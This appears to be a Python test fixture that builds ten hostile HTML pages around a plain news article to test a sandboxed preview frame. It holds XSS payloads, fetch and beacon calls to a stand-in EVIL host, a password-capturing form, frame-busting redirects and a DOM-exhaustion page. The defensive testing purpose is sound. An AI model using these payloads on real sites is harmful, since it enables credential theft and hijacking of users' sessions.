"""Ten pages that want to get out of the frame in which the workbench shows them, each with what it tries."""

from __future__ import annotations

#: Where they want to lead or to report.
EVIL = "http://127.0.0.1:{port}/evil"
TEXT = "<p>The council met on Monday to speak about the old bridge, which carries the town's traffic. </p>" * 4
#: By what they try: the page around the article. "EVIL" stands for an address that must not be asked.
HOSTILE = {
    "script": "<script>top.stolen=1; fetch('EVIL')</script><img src=x onerror='top.stolen=1'>"
    "<svg onload='top.stolen=1'>",
    "style": "<style>body,html{position:fixed;inset:0;z-index:9999} @import 'EVIL'; *{background:url(EVIL)}</style>"
    "<div style='position:fixed;inset:0;z-index:99999;background:url(EVIL)'>cover</div>",
    "form": "<form action='EVIL' target=_top><input name=password autofocus><button>Go</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL'><meta http-equiv=refresh content='0;url=javascript:1'>",
    "endless": "<div>" * 900 + "<p>deep</p>" + "<p>again</p>" * 30_000,
    "base": "<base href='EVIL' target=_top><a href='/x' target=_top>The way out</a>",
    "frames": "<iframe src='EVIL'></iframe><iframe srcdoc='<script>top.stolen=1</script>'></iframe><object data='EVIL'>"
    "</object><embed src='EVIL'>",
    "links": "<a href='javascript:top.stolen=1'>click</a><a href='data:text/html,<script>1</script>'>b</a>"
    "<link rel=stylesheet href='EVIL'><link rel=prefetch href='EVIL'><link rel=dns-prefetch href='//evil.example'>",
    "marks": "<p data-at='0' data-mark='title' data-label='\"><script>top.stolen=1</script>' id=main class=glass>x</p>"
    "<p title='--><script>top.stolen=1</script>'>]]>&lt;script&gt;top.stolen=1&lt;/script&gt;</p>",
    "media": "<img src='EVIL' srcset='EVIL 2x'><picture><source srcset='EVIL'></picture><video src='EVIL' autoplay>"
    "</video><audio src='EVIL' autoplay></audio><body background='EVIL'><table background='EVIL'><td>x</table>",
}


def hostile_page(what: str, evil: str) -> str:
    """The page that tries *what*, an article by all else."""
    title = f"Bridge story of {what} &amp; <b onmouseover=top.stolen=1>more</b>"
    return (
        f"<!doctype html><html lang=en><head><title>Bridge story of {what}</title>"
        f'<meta property="article:published_time" content="2026-03-01T08:00:00Z"></head><body>'
        f"{HOSTILE[what]}<article><h1>{title}</h1>{TEXT}</article></body></html>"
    ).replace("EVIL", evil)
